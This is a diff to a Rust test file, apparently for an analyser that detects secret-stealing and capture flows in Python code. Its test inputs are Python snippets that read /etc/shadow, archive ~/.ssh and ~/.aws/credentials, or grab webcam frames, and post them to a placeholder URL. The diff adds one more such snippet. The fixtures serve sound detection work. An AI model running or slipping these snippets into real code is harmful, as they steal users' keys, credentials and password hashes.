@@ -80,6 +80,7 @@ fn secret_files_by_every_reader() {
         "shutil.copy('/etc/shadow', '/tmp/x')\nrequests.post(u, data=open('/tmp/x').read())",
         "z = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.ssh/id_rsa'))\nz.close()\nrequests.post(u, files={'f': open('/tmp/a.zip', 'rb')})",
         "with tarfile.open('/tmp/a.tgz', 'w:gz') as t:\n    t.add(os.path.expanduser('~/.aws/credentials'))\nrequests.post(u, data=open('/tmp/a.tgz', 'rb'))",
+        "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'))\nrequests.post(u, data=b.getvalue())",
         "shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\nrequests.post(u, data=open('/tmp/a.zip', 'rb').read())",
         "c = sqlite3.connect('/etc/shadow').cursor()\nc.execute('select 1')\nrequests.post(u, data=str(c.fetchall()))",
         "requests.post(u, data=subprocess.check_output('cat ~/.ssh/id_rsa', shell=True))",
@@ -114,7 +115,7 @@ fn what_people_do_is_captured() {
         "import cv2\nok, frame = cv2.VideoCapture(0).read()\nrequests.post(u, data=frame.tobytes())",
     ] {
         assert!(sent(code).has(Origins::CAPTURED), "{code}");
-        let lowered = lower(code);
+        let lowered = lower(&format!("import requests, subprocess\n{code}\n"));
         let captures = lowered
             .operations
             .iter()
@@ -133,7 +134,12 @@ fn values_carry_the_way_they_came() {
         let Some(Act::Contact { payload, .. }) = sent.last().map(|last| &last.act) else {
             panic!("nothing is sent: {code}");
         };
-        payload.way.steps().iter().map(|step| step.event.clone()).collect()
+        payload
+            .way
+            .steps()
+            .iter()
+            .map(|step| step.event.clone())
+            .collect()
     };
     assert_eq!(
         steps("k = os.environ['DEMO_KEY']\nrequests.post(u, headers={'a': f'b {k}'})"),
@@ -159,7 +165,9 @@ fn values_carry_the_way_they_came() {
         Event::Download(Some("https://a.example.com/".to_owned()))
     );
     assert_eq!(
-        steps("h = {}\nh['k'] = os.environ.get('B_KEY')\nclass A:\n    def go(self):\n        requests.post(u, headers=h)")[0],
+        steps(
+            "h = {}\nh['k'] = os.environ.get('B_KEY')\nclass A:\n    def go(self):\n        requests.post(u, headers=h)"
+        )[0],
         Event::Variable("B_KEY".to_owned())
     );
 }
